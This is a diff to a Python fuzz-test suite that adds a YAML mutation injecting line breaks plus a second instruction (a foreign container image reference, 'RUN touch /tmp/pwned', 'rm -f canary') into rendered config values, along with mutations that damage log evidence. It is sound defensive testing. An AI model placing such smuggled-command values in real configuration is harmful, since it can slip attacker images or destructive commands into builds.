@@ -226,6 +226,28 @@ def _yaml_value(data: bytes, rng: random.Random, payload: bytes) -> bytes:
     return b"".join(lines)
 
 
+#: Keys whose values reach a definition, a script or a command line.
+_RENDERED_KEY = re.compile(
+    rb"^\s*(name|os_base|launcher|module|cpu|gpu|[A-Z][A-Z0-9_]*|rsync_target|registry|url):\s*\S"
+)
+#: Values that add a line for some reader: every Unicode line break, as YAML escapes.
+_INJECTIONS = ("\\n", "\\r", "\\v", "\\f", "\\x1c", "\\x1d", "\\x1e", "\\N", "\\L", "\\P", "\\0")
+
+
+def _yaml_inject(data: bytes, rng: random.Random, payload: bytes) -> bytes:
+    """A value that reaches a rendered file gets a line break and a second instruction."""
+    lines = _lines(data)
+    keyed = [i for i, line in enumerate(lines) if _RENDERED_KEY.match(line)]
+    if not keyed:
+        return data
+    index = rng.choice(keyed)
+    key = lines[index].split(b":", 1)[0]
+    tail = rng.choice(("From: docker.io/attacker/evil:1", "RUN touch /tmp/pwned", "rm -f canary"))
+    value = f'"x{rng.choice(_INJECTIONS)}{tail}"'.encode()
+    lines[index] = key + b": " + value + b"\n"
+    return b"".join(lines)
+
+
 def _yaml_indent(data: bytes, rng: random.Random, payload: bytes) -> bytes:
     lines = _lines(data)
     index = rng.randrange(len(lines))
@@ -264,6 +286,8 @@ YAML_MUTATIONS: tuple[Mutation, ...] = (
     Mutation("yaml-value", _yaml_value),
     Mutation("yaml-value", _yaml_value),
     Mutation("yaml-indent", _yaml_indent),
+    Mutation("yaml-inject", _yaml_inject),
+    Mutation("yaml-inject", _yaml_inject),
 )
 
 Step = tuple[Mutation, int, bytes]
@@ -588,14 +612,33 @@ EVIDENCE = _evidence_files(RUN)
 STRUCTURE = ("mutate", "mutate", "mutate", "delete", "directory", "fifo")
 
 
+def _strip_transport(data: bytes, rng: random.Random, payload: bytes) -> bytes:
+    """Every line naming a transport library goes (a path-stripped log)."""
+    words = rb"UCX|ucx|select|pml|btl|mtl|NET/|NCCL|ofi|tcp|shm|sysv|cma"
+    return b"".join(line for line in _lines(data) if not re.search(words, line))
+
+
+#: Damage to evidence, weighted toward what destroys it (the wrong-pass hunt).
+VERIFY_MUTATIONS: tuple[Mutation, ...] = (
+    *(m for m in MUTATIONS if m.destroys),
+    *(m for m in MUTATIONS if m.destroys),
+    Mutation("nul-fill", _nul_fill),
+    Mutation("strip-transport", _strip_transport),
+    Mutation("strip-transport", _strip_transport),
+    *(m for m in MUTATIONS if m.name in ("truncate", "flip-bytes", "drop-lines", "insert")),
+)
+#: The debug logs (the transport evidence) are drawn as often as everything else together.
+DEBUG_LOGS = [name for name in EVIDENCE if "/debug/" in name and not name.endswith(".json")]
+
+
 def test_fuzz_verify(tmp_path: Path) -> None:
     ledger = Ledger()
 
     @budget(16)
     @given(
-        target=st.sampled_from(EVIDENCE),
+        target=st.sampled_from(EVIDENCE) | st.sampled_from(DEBUG_LOGS),
         damage=st.sampled_from(STRUCTURE),
-        chain=steps(MUTATIONS, most=2),
+        chain=steps(VERIFY_MUTATIONS, most=2),
     )
     def run(target: str, damage: str, chain: list[Step]) -> None:
         run_dir = tmp_path / "run"
@@ -614,9 +657,11 @@ def test_fuzz_verify(tmp_path: Path) -> None:
             path.write_bytes(mutate(path.read_bytes(), chain))
         outcome = esdc("verify", str(run_dir), "--json")
         what = f"verify: {damage} {target} {describe(chain) if damage == 'mutate' else ''}"
-        # Evidence destroyed: the file gone, replaced, emptied (a stderr may be empty) or garbage.
+        # Evidence destroyed: the file gone, replaced, emptied (a stderr may be empty), garbage,
+        # or a debug log with a zero-filled stretch.
         destroyed = damage != "mutate" or any(
-            m.destroys and not (m.name == "empty" and target.endswith("stderr"))
+            (m.destroys and not (m.name == "empty" and target.endswith("stderr")))
+            or (m.name == "nul-fill" and target in DEBUG_LOGS)
             for m, _, _ in chain
         )
         wrong_pass = destroyed and outcome.code == 0
